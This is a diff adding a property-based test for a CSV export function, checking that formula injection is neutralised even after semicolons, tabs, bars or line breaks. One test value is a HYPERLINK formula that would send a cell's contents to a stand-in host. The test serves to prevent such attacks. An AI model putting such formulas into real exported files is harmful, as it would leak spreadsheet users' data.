@@ -172,6 +172,28 @@ describe('csvText', () => {
     );
   });
 
+  it('writes none where a spreadsheet cuts lines at semicolons, tabs, bars or line ends either', () => {
+    expect(csvText([['Acme;=HYPERLINK("http://x.test?"&A1)']])).toBe(
+      `"Acme;'=HYPERLINK(""http://x.test?""&A1)"\r\n`,
+    );
+    fc.assert(
+      fc.property(
+        cell,
+        fc.constantFrom(';', '\t', '|', '\n', '\r\n', '; ', ';"', ";'"),
+        fc.constantFrom('=', '+', '-', '@', '＝'),
+        cell,
+        (before, separator, sign, after) => {
+          const text = `${before}${separator}${sign}${after}`;
+          const [[written = '']] = parse(csvText([[text, '']])) as [string[]];
+          const pieces = written.split(/[;\t|\r\n]/).slice(1);
+          const formulas = pieces.filter((piece) => /^[\s"]*[=+\-@＝＋－＠]/.test(piece));
+          expect(formulas.filter((piece) => !/^\s*\+[\d ]+$/.test(piece))).toEqual([]);
+        },
+      ),
+    );
+    expect(csvText([['Office; +49 30 1234567']])).toBe('"Office; +49 30 1234567"\r\n');
+  });
+
   it('leaves numbers and telephone numbers readable', () => {
     expect(csvText([[-5, '+49 30 1234567', '+493012', '-5', true, null]])).toBe(
       "-5,+49 30 1234567,+493012,'-5,true,\r\n",
